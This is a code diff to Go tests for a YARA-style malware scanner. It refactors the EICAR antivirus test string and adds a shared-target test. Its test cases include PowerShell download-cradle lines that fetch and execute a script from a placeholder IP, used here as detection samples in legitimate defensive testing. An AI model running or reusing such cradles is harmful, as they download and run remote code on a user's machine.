@@ -6,7 +6,6 @@ import (
 	"context"
 	"errors"
 	"io/fs"
-	"lachan/test/shareddata"
 	"os"
 	"path/filepath"
 	"slices"
@@ -16,6 +15,7 @@ import (
 
 	"lachan/internal/event"
 	"lachan/rules"
+	"lachan/test/shareddata"
 )
 
 // sharedData finds the third-party test data (see test/shareddata).
@@ -34,8 +34,17 @@ func repoRules(t *testing.T) *Rules {
 	return r
 }
 
+// eicarTest is the EICAR anti-virus test string, in two pieces so that
+// this source file is not itself taken for the test file.
+const eicarTest = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+// TestEICAR scans the EICAR string written to a temporary eicar.com, so
+// it runs wherever cgo does.
 func TestEICAR(t *testing.T) {
-	eicar := filepath.Join(sharedData(t), "yara", "targets", "eicar.com")
+	eicar := filepath.Join(t.TempDir(), "eicar.com")
+	if err := os.WriteFile(eicar, []byte(eicarTest), 0o600); err != nil {
+		t.Fatal(err)
+	}
 	r := repoRules(t)
 	if r.Count() < 3 {
 		t.Fatalf("Count = %d, want at least 3", r.Count())
@@ -84,15 +93,28 @@ func TestEICAR(t *testing.T) {
 	}
 }
 
+// TestEICARSharedTarget scans the shared eicar.com, the file other
+// scanners are checked against.
+func TestEICARSharedTarget(t *testing.T) {
+	eicar := filepath.Join(sharedData(t), "yara", "targets", "eicar.com")
+	found, err := repoRules(t).ScanFile(eicar)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(found) != 1 || found[0].Rule != "EICAR_Test_File" || found[0].Namespace != "eicar.yar" {
+		t.Fatalf("findings %+v, want EICAR_Test_File in eicar.yar", found)
+	}
+}
+
 func TestRepoRulesCases(t *testing.T) {
 	r := repoRules(t)
 	cases := []struct {
 		name, content string
 		want          []string
 	}{
-		{"eicar", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", []string{"EICAR_Test_File"}},
-		{"eicar padded", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*   \r\n", []string{"EICAR_Test_File"}},
-		{"eicar inside a bigger file", "hello " + "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", nil},
+		{"eicar", eicarTest, []string{"EICAR_Test_File"}},
+		{"eicar padded", eicarTest + "   \r\n", []string{"EICAR_Test_File"}},
+		{"eicar inside a bigger file", "hello " + eicarTest, nil},
 		{"cradle", "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://203.0.113.9/a.ps1')\n", []string{"PowerShell_Download_Cradle"}},
 		{"cradle piped", "Invoke-WebRequest -Uri http://203.0.113.9/x | iex\n", []string{"PowerShell_Download_Cradle"}},
 		{"download only", "Invoke-WebRequest -Uri https://example.org/report.csv -OutFile report.csv\n", nil},
